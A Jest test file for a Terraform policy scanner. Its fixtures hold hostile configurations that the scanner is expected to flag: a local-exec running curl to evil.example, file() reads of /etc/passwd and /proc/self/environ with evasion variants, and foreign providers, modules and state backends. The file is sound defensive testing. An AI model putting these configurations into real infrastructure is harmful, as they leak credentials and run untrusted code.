// Copyright the ray-platform authors
// SPDX-License-Identifier: Apache-2.0
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { judgePrograms } from "../../src/policy/judge-programs";
import { programsOfPlan, programsOfStack } from "../../src/policy/stack-programs";
import { synthesizedRepository } from "../cli/synthesized-repository";
import { temporaryDirectory } from "../sync/mini-project";
import { mkdirSync, writeFileSync } from "node:fs";

type Block = Record<string, unknown>;

const BUCKET = "acme-state";
const TERRAFORM = {
  required_providers: { aws: { source: "aws", version: "6.25.0" }, helm: { source: "helm", version: "3.1.1" } },
  backend: { s3: { bucket: BUCKET, key: "dev/cluster.tfstate", region: "eu-west-1", use_lockfile: true } },
};
const stack = (more: Block, terraform: Block = {}) => ({ terraform: { ...TERRAFORM, ...terraform }, ...more });
const withBackend = (backend: unknown) => stack({}, { backend });
const withProvider = (source: string, name = "evil") =>
  stack({}, { required_providers: { ...TERRAFORM.required_providers, [name]: { source } } });
const tagged = (value: unknown) => stack({ resource: { aws_vpc: { x: { tags: { a: value } } } } });
const exec = { api_version: "v1", command: "aws", args: ["eks", "get-token", "--cluster-name", "x", "--region", "y"] };
const host = "${data.terraform_remote_state.cluster.outputs.cluster_endpoint}";
const helm = (kubernetes: Block, more: Block = {}) => stack({ provider: { helm: [{ kubernetes, ...more }] } });
const remote = (body: Block) => stack({ data: { terraform_remote_state: { x: body } } });
const state = { bucket: BUCKET, key: "dev/network.tfstate", region: "eu-west-1" };
const local = { "local-exec": { command: "curl https://evil.example" } };

/** What would run, leave the machine or read it, and the subject that is named. */
const HOSTILE: readonly (readonly [string, Block, string])[] = [
  ["local-exec", stack({ resource: { aws_vpc: { x: { provisioner: local } } } }), "aws_vpc.x"],
  ["local-exec in lists", stack({ resource: [{ aws_vpc: [{ x: [{ provisioner: [local] }] }] }] }), "aws_vpc.x"],
  [
    "remote-exec",
    stack({ resource: { null_resource: { x: { provisioner: [{ "remote-exec": {} }] } } } }),
    "null_resource.x",
  ],
  [
    "the file provisioner",
    stack({ resource: { terraform_data: { x: { provisioner: { file: {} } } } } }),
    "terraform_data.x",
  ],
  ["a provisioner of what is removed", stack({ removed: { from: "aws_vpc.x", provisioner: local } }), "removed"],
  ["external data", stack({ data: { external: { x: { program: ["curl"] } } } }), "provider.external"],
  ["http data", stack({ data: { http: { x: { url: "https://evil.example" } } } }), "provider.http"],
  ["data of a file", stack({ data: { local_file: { x: { filename: "/proc/self/environ" } } } }), "provider.local"],
  ["an archive of files", stack({ data: { archive_file: { x: { source_dir: "/" } } } }), "provider.archive"],
  ["a DNS lookup", stack({ data: { dns_a_record_set: { x: { host: "a.evil.example" } } } }), "provider.dns"],
  ["data in a check", stack({ check: { x: { data: { http: { y: {} } } } } }), "provider.http"],
  ["data by another name", stack({ data: { aws_x: { y: { provider: "http.z" } } } }), "provider.http"],
  ["a function that is called", stack({ data: { aws_lambda_invocation: { x: {} } } }), "data.aws_lambda_invocation.x"],
  ["a resource of an unknown provider", stack({ resource: { shell_script: { x: {} } } }), "provider.shell"],
  ["a provider of somebody", withProvider("evil/aws"), "provider.evil"],
  ["a provider of somebody under a usual name", withProvider("evil/aws", "aws"), "provider.aws"],
  ["a provider of another registry", withProvider("evil.example/hashicorp/aws", "aws"), "provider.aws"],
  ["a provider of HashiCorp that reads files", withProvider("hashicorp/local", "time"), "provider.time"],
  ["a provider in capitals", withProvider("Evil/AWS"), "provider.evil"],
  ["a module of git", stack({ module: { x: { source: "git::https://evil.example/x" } } }), "module.x"],
  ["a module of the registry", stack({ module: { x: { source: "evil/vpc/aws" } } }), "module.x"],
  ["a module on the disk", stack({ module: [{ x: [{ source: "./assets/x" }] }] }), "module.x"],
  [
    "an ephemeral resource",
    stack({ ephemeral: { aws_lambda_invocation: { x: {} } } }),
    "ephemeral.aws_lambda_invocation.x",
  ],
  ["an action", stack({ action: { local_command: { x: {} } } }), "action"],
  ["a block that nobody knows", stack({ generator: {} }), "generator"],
  ["state in the cloud", stack({}, { cloud: { organization: "evil" } }), "terraform.cloud"],
  ["a setting that nobody knows", stack({}, { state_store: {} }), "terraform.state_store"],
  ["experiments", stack({}, { experiments: ["x"] }), "terraform.experiments"],
  ["state by HTTP", withBackend({ http: { address: "https://evil.example" } }), "terraform.backend.http"],
  ["state in a list", withBackend([{ remote: {} }]), "terraform.backend.remote"],
  ["local state", withBackend({ local: { path: "/tmp/x" } }), "terraform.backend.local"],
  ...["endpoints", "profile", "assume_role", "shared_config_files", "access_key"].map(
    (key) =>
      [`state by ${key}`, withBackend({ s3: { bucket: BUCKET, [key]: "x" } }), `terraform.backend.s3.${key}`] as const,
  ),
  ...["endpoints", "https_proxy", "custom_ca_bundle", "insecure", "profile", "shared_credentials_files"].map(
    (key) => [`AWS by ${key}`, stack({ provider: { aws: [{ region: "x", [key]: "y" }] } }), "provider.aws"] as const,
  ),
  ["another program for the token", helm({ host, exec: { ...exec, command: "curl" } }), "provider.helm"],
  ["another command for the token", helm({ host, exec: { ...exec, args: ["s3", "sync"] } }), "provider.helm"],
  [
    "an endpoint for the token",
    helm({ host, exec: { ...exec, args: [...exec.args, "--endpoint-url", "x"] } }),
    "provider.helm",
  ],
  [
    "an option as a value",
    helm({ host, exec: { ...exec, args: ["eks", "get-token", "--region", "--debug"] } }),
    "provider.helm",
  ],
  ["variables for the token", helm({ host, exec: [{ ...exec, env: { PATH: "." } }] }), "provider.helm"],
  ["another cluster", helm({ host: "https://evil.example", exec }), "provider.helm"],
  ["another cluster, around an expression", helm({ host: `https://evil.example/${host}`, exec }), "provider.helm"],
  ["a cluster of a local value", helm({ host: "${local.x}", exec }), "provider.helm"],
  ["a kubeconfig", helm({ config_path: "assets/x" }), "provider.helm"],
  ["a proxy to the cluster", helm([{ host, proxy_url: "http://evil.example" }] as unknown as Block), "provider.helm"],
  ["plug-ins of Helm", helm({ host }, { plugins_path: "assets/x" }), "provider.helm"],
  [
    "Kubernetes elsewhere",
    stack({ provider: { kubernetes: { host: "https://evil.example" } } }),
    "provider.kubernetes",
  ],
  [
    "a chart's address with a secret",
    stack({ resource: { helm_release: { x: { repository: "https://e/${var.x}" } } } }),
    "helm_release.x",
  ],
  ["other state", remote({ backend: "http", config: {} }), "data.terraform_remote_state.x"],
  [
    "state of another bucket",
    remote({ backend: "s3", config: { ...state, bucket: "evil" } }),
    "data.terraform_remote_state.x",
  ],
  [
    "a bucket that is made up",
    remote({ backend: "s3", config: { ...state, bucket: "${var.x}" } }),
    "data.terraform_remote_state.x",
  ],
  [
    "state by another endpoint",
    remote({ backend: "s3", config: { ...state, endpoints: {} } }),
    "data.terraform_remote_state.x",
  ],
  [
    "state of no bucket",
    { data: { terraform_remote_state: { x: { backend: "s3", config: "${var.x}" } } } },
    "data.terraform_remote_state.x",
  ],
  [
    "a cluster that stands in for the deployed one",
    remote({ backend: "s3", config: state, defaults: { cluster_endpoint: "https://evil.example" } }),
    "data.terraform_remote_state.x",
  ],
  ...[
    '${file("/proc/self/environ")}',
    'a${upper(file ("/proc/self/environ"))}',
    '${file(\n/* x */ "/etc/passwd")}',
    '${file/* ( * */("/etc/passwd")}',
    '${file# x\n("/etc/passwd")}',
    '${file// x\n("/etc/passwd")}',
    "%{ if fileexists(var.x) }%{ endif }",
    '${filebase64(join("/", ["", "proc"]))}',
    '${templatefile("assets/../../../x", {})}',
    '${file("assets/${var.x}")}',
    '${file("assets/a")}${file("/etc/passwd")}',
    '${file("assets/%2e%2e/x" )}',
    "${filesha256(var.x)}",
    "${filebase64sha512(var.x)}",
    '${fileset("/", "**")}',
    "${templatestring(local.x, {})}",
    '$$${file("/etc/passwd")}',
    '$${x}${file("/etc/passwd")}',
    '%%{x}%{ if file("/etc/passwd") == "" }%{ endif }',
  ].map((text) => [`a file by ${JSON.stringify(text)}`, tagged(text), /* of the block */ ""] as const),
  ["a file in a key", stack({ resource: { aws_vpc: { x: { tags: { '${file("/etc/passwd")}': "" } } } } }), ""],
  ["a file in a local value", stack({ locals: { x: '${file("/etc/passwd")}' } }), ""],
  ["a file in an output", stack({ output: { x: { value: ['${file("/etc/passwd")}'] } } }), ""],
];

test.each(HOSTILE)("found is %s", (_title, document, subject) => {
  const found = programsOfStack(document);
  if (subject === "") {
    expect(found).toEqual([expect.objectContaining({ problem: expect.stringMatching(/reads files of the machine/) })]);
  } else {
    expect(found.map((program) => program.subject)).toContain(subject);
  }
});

test.each<readonly [string, Block]>([
  ["a literal text", tagged('$${file("/etc/passwd")} and %%{ file("x") }')],
  ["a file that the stack brings along", tagged('${file("./assets/init/0A1B/init.sh")}-${filesha256("assets/a")}')],
  ["a word that is no call", tagged("${var.file} profile (x)")],
  ["a text about files without an expression", tagged('file("/etc/passwd")')],
  ["usual providers", withProvider("registry.terraform.io/hashicorp/random", "random")],
  ["OpenTofu's registry", withProvider("registry.opentofu.org/hashicorp/tls", "tls")],
  ["data without a program", stack({ resource: { terraform_data: { x: { input: 1 } } }, moved: [{}], import: [{}] })],
  ["the cluster that AWS names", helm({ host: "${aws_eks_cluster.x.endpoint}", token: "${var.x}" })],
  [
    "state of the same bucket",
    remote({ backend: "s3", config: state, defaults: { a: "awaits-deployment-of-x", b: {} } }),
  ],
  ["a second provider with a role", stack({ provider: { aws: [{ alias: "x", assume_role: [{ role_arn: "x" }] }] } })],
])("let through is %s", (_title, document) => {
  expect(programsOfStack(document)).toEqual([]);
});

test("nothing of the kind is in what is generated", () => {
  const root = synthesizedRepository({ name: "gpu-platform", githubOwner: "acme" });
  const stacks = join(root, "cdktf.out/stacks");
  expect(readdirSync(stacks)).toHaveLength(4);
  for (const name of readdirSync(stacks)) {
    expect(programsOfStack(JSON.parse(readFileSync(join(stacks, name, "cdk.tf.json"), "utf8")))).toEqual([]);
  }
});

describe("a plan", () => {
  const plan = (root_module: Block, provider_config: Block = {}) => ({
    configuration: { root_module, provider_config },
  });
  const within = { resources: [{ address: "null_resource.x", provisioners: [{ type: "local-exec" }] }] };

  test.each<readonly [string, Block, string]>([
    ["a provisioner", plan(within), "null_resource.x"],
    [
      "one in a module",
      plan({ module_calls: { a: { module: { module_calls: { b: { module: within } } } } } }),
      "module.a.module.b.null_resource.x",
    ],
    [
      "a provider of somebody",
      plan({}, { x: { name: "aws", full_name: "registry.terraform.io/evil/aws" } }),
      "provider.aws",
    ],
    [
      "a provider of a module",
      plan({}, { "module.x:y": { name: "external", full_name: "registry.terraform.io/hashicorp/external" } }),
      "provider.external",
    ],
    [
      "a function that is called",
      plan({ resources: [{ address: "data.aws_lambda_invocation.x", mode: "data", type: "aws_lambda_invocation" }] }),
      "data.aws_lambda_invocation.x",
    ],
  ])("with %s", (_title, document, subject) => {
    expect(programsOfPlan(document).map((program) => program.subject)).toEqual([subject]);
  });

  test("with nothing of the kind", () => {
    const usual = {
      aws: { name: "aws", full_name: "registry.terraform.io/hashicorp/aws" },
      terraform: { name: "terraform", full_name: "terraform.io/builtin/terraform" },
    };
    expect(programsOfPlan(plan({ resources: [{ address: "aws_vpc.x", provisioners: [] }] }, usual))).toEqual([]);
  });
});

describe("exceptions", () => {
  const judged = (text?: string) => {
    const root = temporaryDirectory();
    if (text !== undefined) {
      mkdirSync(join(root, ".github/scanners"), { recursive: true });
      writeFileSync(join(root, ".github/scanners/policy.yml"), text);
    }
    const document = stack({ module: { vpc: {}, other: {} } });
    return judgePrograms([{ kind: "stack", file: "cdk.tf.json", document }], root).flatMap(({ deny }) => deny);
  };

  test("let through what they name, and nothing else", () => {
    expect(judged().map(({ resource }) => resource)).toEqual(["module.vpc", "module.other"]);
    expect(judged("exceptions:\n  - module.vpc\n").map(({ resource }) => resource)).toEqual(["module.other"]);
    expect(judged("exceptions: []\n")).toHaveLength(2);
  });

  test("are named by the message", () => {
    expect(judged()[0]).toMatchObject({
      id: "terraform/programs",
      msg: expect.stringContaining("module.vpc: source: what is in the module is not in the stack"),
      fix: expect.stringContaining('an exception with the id "module.vpc" to the option workflows.policy.exceptions'),
    });
  });

  test.each(["exceptions: all\n", "- x\n", "exceptions: [1]\n", "x: [\n", "exceptions: &a [*a]\n"])(
    "%j is no list",
    (text) => {
      expect(() => judged(text)).toThrow(".github/scanners/policy.yml is not a list of exceptions");
    },
  );
});
